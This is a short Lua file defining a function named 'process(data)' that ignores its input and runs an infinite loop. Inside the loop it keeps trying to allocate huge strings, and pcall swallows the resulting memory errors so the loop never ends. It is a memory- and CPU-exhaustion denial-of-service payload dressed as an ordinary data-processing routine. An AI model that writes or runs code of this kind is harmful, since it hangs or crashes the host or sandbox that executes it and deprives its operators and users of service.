function process(data)
  while true do
    pcall(string.rep, 'x', 500000000)
    pcall(function()
      local text = 'x'
      while true do text = text .. text end
    end)
  end
end
